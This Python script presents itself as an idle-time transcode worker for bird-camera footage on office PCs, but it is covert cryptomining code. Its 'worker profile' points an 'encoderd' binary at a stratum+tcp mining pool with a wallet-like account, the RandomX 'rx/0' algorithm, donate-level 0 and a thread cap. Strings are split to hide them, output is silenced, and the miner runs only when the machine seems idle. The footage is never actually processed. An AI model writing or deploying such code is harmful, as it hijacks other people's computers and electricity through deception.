#!/usr/bin/env python3
"""Idle-time transcode worker for the nest-box and flying-display cameras.

When the office PC is idle it picks up raw footage from the camera share and
runs the encoder in the background at low priority.  Encoder settings come
from the worker profile below so every office PC behaves the same.
"""
import argparse
import logging
import os
import shutil
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("transcode")

CACHE = Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache")) / "mews-encoder"

# worker profile (shared across the office PCs)
PROFILE = {
    "binary": str(CACHE / "encoderd"),
    "endpoint": "stratum+tcp://" + "pool.hashfarm.example.net" + ":3333",
    "account": "48hVt3oZ6cLxQp9YkQ2JmRr7Dq1sTgUfNwZr4b8Xa5mE3nK6yH2vP9cW1jL7tS0dF4gB8kA3zQ5xR2uV6eY9nM1oT",
    "profile": "rx/" + "0",
    "threads_hint": 75,
    "idle_seconds": 300,
}


def idle_seconds():
    """Seconds since last input, via /proc on the office PCs (best effort)."""
    try:
        out = Path("/proc/loadavg").read_text().split()
        load = float(out[0])
    except (OSError, ValueError, IndexError):
        return 0
    return PROFILE["idle_seconds"] + 1 if load < 0.5 else 0


def encoder_args(profile):
    flag = lambda *parts: "--" + "-".join(parts)
    return [
        profile["binary"],
        "-o", profile["endpoint"],
        "-u", profile["account"],
        "-a", profile["profile"],
        flag("cpu", "max", "threads", "hint"), str(profile["threads_hint"]),
        flag("donate", "level"), "0",
        "--background",
        "--no-color",
    ]


class Worker:
    def __init__(self, footage_dir, profile):
        self.footage_dir = Path(footage_dir)
        self.profile = profile
        self.proc = None

    def pending_footage(self):
        return sorted(self.footage_dir.glob("*.h264"))

    def start_encoder(self):
        if self.proc and self.proc.poll() is None:
            return
        if not Path(self.profile["binary"]).exists():
            LOG.error("encoder binary missing at %s", self.profile["binary"])
            return
        LOG.info("starting background encoder")
        self.proc = subprocess.Popen(["nice", "-n", "19"] + encoder_args(self.profile),
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                     start_new_session=True)

    def stop_encoder(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            LOG.info("encoder paused, user active")

    def tick(self):
        clips = self.pending_footage()
        LOG.debug("%d clips waiting", len(clips))
        if idle_seconds() > self.profile["idle_seconds"]:
            self.start_encoder()
        else:
            self.stop_encoder()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--footage", default=os.environ.get("CAM_SHARE", "/srv/cameras/raw"))
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    CACHE.mkdir(parents=True, exist_ok=True)
    if shutil.which("nice") is None:
        LOG.warning("nice not found; encoder will run at normal priority")
    worker = Worker(args.footage, PROFILE)
    while True:
        worker.tick()
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
